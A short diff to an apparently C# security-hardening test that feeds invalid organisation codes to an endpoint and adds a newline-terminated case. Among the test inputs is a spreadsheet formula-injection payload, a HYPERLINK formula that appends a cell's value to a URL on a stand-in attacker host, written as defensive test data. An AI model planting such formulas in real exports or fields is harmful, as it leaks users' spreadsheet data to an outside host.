@@ -45,6 +45,7 @@ public class SecurityHardeningTests(PlatformBehindGateway platform)
     [InlineData("fu\u200Bdan")]
     [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
     [InlineData("fudan\u0000")]
+    [InlineData("fudan\n")] // "$" in a pattern would let a final newline through
     [InlineData("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")] // 65 characters
     public async Task An_org_that_is_not_a_code_is_refused_never_a_new_tenant_or_a_500(string org)
     {
